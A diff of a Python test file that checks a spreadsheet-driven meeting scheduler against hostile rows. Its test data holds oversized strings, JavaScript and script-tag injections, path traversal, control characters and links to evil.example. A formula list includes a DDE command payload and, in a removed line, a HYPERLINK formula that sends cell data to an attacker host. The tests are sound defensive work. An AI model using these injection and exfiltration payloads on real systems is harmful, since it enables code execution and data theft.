@@ -24,27 +24,33 @@ MOST_SECONDS = 15.0
 REPEATS = 6
 """Each hostile row stands in the sheet so many times."""
 
+OTHER = "https://zoom.us/j/81000000002"
+
+
+def hostile(**changes: Any) -> list[Any]:
+    """Return a row of another meeting than the honest one."""
+    return row(changes.pop("link", OTHER), **changes)
+
+
 HONEST = row("https://zoom.us/j/81000000001")
 HOSTILE: Mapping[str, Sequence[Any]] = {
-    "a start of 50,000 digits": row(start="'" + "9" * 50_000),
-    "a start of 50,000 colons": row(start="'" + "9:" * 25_000),
-    "a start of 50,000 blanks": row(start="'9" + " " * 50_000 + "x"),
-    "a link of 50,000 slashes": row("https://zoom.us/j/" + "/" * 50_000),
-    "a link of 50,000 digits": row("https://zoom.us/j/" + "8" * 50_000),
-    "a link to another host": row("https://evil.example/j/81000000002"),
-    "a link of JavaScript": row("javascript:alert(1)//81000000002"),
-    "a link that climbs": row("https://zoom.us/j/../../81"),
-    "a course of 50,000 letters": row(course="x" * 50_000),
-    "a course with a passcode": row(course="HIST https://zoom.us/j/81000000002?pwd=hidden99"),
-    "a day of 50,000 letters": row(day="M" * 50_000),
-    "a day that is none": row(day="<script>"),
-    "a series that climbs": [*row()[:5], "../../admin"],
-    "a series of another host": [*row()[:5], "https://evil.example/x?series=" + "x" * 3000],
-    "control characters": row(course="\x00\x1b[31m\x7f", day="\x00"),
-    "text from right to left": row(day="\u202eM\u202c"),
-    "10,000 columns": [*row(day="?"), *["x"] * 10_000],
+    "a start of 50,000 digits": hostile(start="'" + "9" * 50_000),
+    "a start of 50,000 colons": hostile(start="'" + "9:" * 25_000),
+    "a start of 50,000 blanks": hostile(start="'9" + " " * 50_000 + "x"),
+    "a link of 50,000 slashes": hostile(link="https://zoom.us/j/" + "/" * 50_000),
+    "a link of 50,000 digits": hostile(link="https://zoom.us/j/" + "8" * 50_000),
+    "a link of JavaScript": hostile(link="javascript:alert(1)"),
+    "a link that climbs": hostile(link="https://zoom.us/j/../../81"),
+    "a course of 50,000 letters": hostile(course="x" * 50_000),
+    "a course with a passcode": hostile(course=f"HIST {OTHER}?pwd=hidden99"),
+    "a day of 50,000 letters": hostile(day="M" * 50_000),
+    "a day of a script": hostile(day="<script>alert(1)</script>"),
+    "a series that climbs": [*hostile()[:5], "../../admin"],
+    "a series of 3,000 letters": [*hostile()[:5], "https://evil.example/" + "x" * 3000],
+    "control characters": hostile(course="\x00\x1b[31m\x7f", day="M\x00"),
+    "10,000 columns": [*hostile(), *["<script>"] * 10_000],
 }
-"""Rows that have to be left out of the schedule."""
+"""Rows of another meeting, whose classes have to be clean or left out."""
 
 
 def update(target: Target) -> Answer:
@@ -64,26 +70,31 @@ def sheet(target: Target) -> Spreadsheet:
 
 
 @pytest.mark.parametrize("name", HOSTILE)
-def test_update_leaves_out_a_row_and_keeps_the_honest_one_when_it_has(
+def test_update_takes_only_what_is_clean_when_a_row_has(
     name: str, target: Target, sheet: Spreadsheet
 ) -> None:
-    honest = sheet.scheduled()
     sheet.fill([HEADER, HONEST, *[HOSTILE[name]] * REPEATS], [HEADER])
     began = time.monotonic()
     answer = update(target)
     assert time.monotonic() - began < MOST_SECONDS
-    assert (answer.status, answer.body.partition(".")[0]) == (
-        200,
-        "Success: 1 meeting with 2 events",
-    )
-    assert f"{REPEATS} rows skipped" in answer.body
+    assert answer.status == 200
+    assert answer.body.startswith("Success: ")
     assert len(answer.body) < 5000
-    assert "hidden99" not in answer.body
-    assert sheet.scheduled() == honest
+    scheduled = sheet.scheduled()
+    assert set(scheduled) <= {"81000000001", "81000000002"}
+    assert [(found["day"], found["time"]) for found in scheduled["81000000001"]] == [
+        ("M", "9:30"),
+        ("W", "9:30"),
+    ]
+    texts = [str(value) for found in scheduled.get("81000000002", ()) for value in found.values()]
+    for text in [answer.body, *texts]:
+        assert "hidden99" not in text
+        assert "<script>" not in text
+    assert max(map(len, texts), default=0) <= 200
 
 
 FORMULAS = (
-    '=HYPERLINK("https://evil.example?"&A1)',
+    '=HYPERLINK("evil")',
     "+1+cmd|' /C calc'!A1",
     "-2+3",
     "@SUM(1+1)",
